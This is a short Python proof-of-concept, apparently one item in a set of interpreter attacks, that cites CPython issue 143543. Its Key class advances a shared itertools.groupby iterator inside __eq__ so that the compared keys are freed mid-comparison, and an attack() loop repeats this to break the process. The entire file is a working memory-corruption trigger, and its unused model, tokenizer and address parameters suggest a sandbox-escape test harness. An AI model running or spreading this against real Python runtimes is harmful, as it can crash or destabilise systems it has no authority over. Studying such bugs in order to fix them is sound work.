"""Class: memory. Source: CPython issue 143543. Escape: the process breaks. A key that is compared asks for the
next groups, so that both keys are freed."""

from itertools import groupby


class Key:
    def __eq__(self, other):
        if asked:
            return False
        asked.append(1)
        next(groups)
        next(groups)
        return NotImplemented


asked = []


def attack(model, tokenizer, address):
    global groups
    for _ in range(300):
        asked.clear()
        groups = groupby(range(6), key=lambda each: Key())
        next(groups)
        next(groups)
        try:
            for key, values in groups:
                pass
        except StopIteration:
            pass
